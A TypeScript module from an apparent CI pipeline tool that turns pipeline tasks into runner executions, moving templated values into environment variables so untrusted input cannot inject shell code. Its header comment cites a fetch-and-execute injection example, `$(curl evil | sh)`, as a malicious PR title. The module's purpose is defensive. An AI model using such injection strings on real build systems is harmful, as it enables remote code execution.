// Turns a task of the pipeline into what a runner executes (runners/runner.ts). Untrusted data
// never becomes script text: each `${{ }}` inside `commands` is replaced by a reference to an
// environment variable (`${EVENTOPS_EXPR_1}`) holding the expression's value, so a PR title such
// as `$(curl evil | sh)` reaches the shell as text. Env values are rendered to strings; secret
// references are resolved (only the secrets the task's source may use) and listed for masking.
import { ExpressionError, parseCpu, parseDuration, parseMemory, parseTemplate, renderTemplate, evaluate, stringify, type Task } from '../../schemas/index.js';
import type { TaskExecution } from '../../runners/index.js';

export interface ExecutionInput {
  runId: string;
  task: Task;
  attempt: number;
  context: Record<string, unknown>;
  /** The secret's value; throws when the source may not use it or it is not set. */
  secret(name: string): string;
  /** Shell and work folder from the actuator, when the task names none. */
  defaults?: { shell?: string | undefined; workdir?: string | undefined };
  /** Milliseconds left before the run's own timeout, if it has one. */
  runTimeLeftMs?: number;
}

/** Throws an `ExpressionError` (naming the field) when a template does not render. */
export function taskExecution(input: ExecutionInput): TaskExecution {
  const { task, context } = input;
  const env: Record<string, string> = {};
  const secrets: string[] = [];
  for (const [name, value] of Object.entries(task.env ?? {})) {
    if (typeof value === 'string') env[name] = stringify(renderIn(`env.${name}`, value, context));
    else {
      const secret = input.secret(value.secret);
      env[name] = secret;
      secrets.push(secret);
    }
  }
  let n = 0;
  const commands = (task.commands ?? []).map((command, i) => {
    if (!command.includes('${{')) return command;
    let parts;
    try {
      parts = parseTemplate(command);
    } catch (error) {
      throw new ExpressionError(`commands[${i}]: ${(error as Error).message}`, command);
    }
    return parts
      .map((part) => {
        if (typeof part === 'string') return part;
        const variable = `EVENTOPS_EXPR_${++n}`;
        try {
          env[variable] = stringify(evaluate(part.source, 'pipeline', context));
        } catch (error) {
          throw new ExpressionError(`commands[${i}]: ${(error as Error).message}`, part.source, undefined, { cause: error });
        }
        return `\${${variable}}`;
      })
      .join('');
  });
  const taskTimeout = task.timeout ? parseDuration(task.timeout) : undefined;
  const limits = [taskTimeout, input.runTimeLeftMs].filter((v): v is number => v !== undefined);
  const cpu = task.resources?.cpu === undefined ? undefined : parseCpu(task.resources.cpu);
  const memoryBytes = task.resources?.memory === undefined ? undefined : parseMemory(task.resources.memory);
  const shell = task.shell ?? input.defaults?.shell;
  const workdir = task.workdir ?? input.defaults?.workdir;
  return {
    runId: input.runId,
    task: task.name,
    attempt: input.attempt,
    commands,
    env,
    outputs: (task.outputs ?? []).filter((o) => o.fromEnv !== undefined || o.fromFile !== undefined).map((o) => ({ name: o.name, ...(o.fromEnv ? { fromEnv: o.fromEnv } : {}), ...(o.fromFile ? { fromFile: o.fromFile } : {}) })),
    secrets,
    ...(shell ? { shell } : {}),
    ...(workdir ? { workdir } : {}),
    ...(task.image ? { image: stringify(renderIn('image', task.image, context)) } : {}),
    ...(cpu !== undefined || memoryBytes !== undefined ? { resources: { ...(cpu !== undefined ? { cpu } : {}), ...(memoryBytes !== undefined ? { memoryBytes } : {}) } } : {}),
    ...(limits.length > 0 ? { timeoutMs: Math.max(1, Math.min(...limits)) } : {}),
  };
}

function renderIn(field: string, text: string, context: Record<string, unknown>): unknown {
  try {
    return renderTemplate(text, 'pipeline', context);
  } catch (error) {
    throw new ExpressionError(`${field}: ${(error as Error).message}`, text, undefined, { cause: error });
  }
}
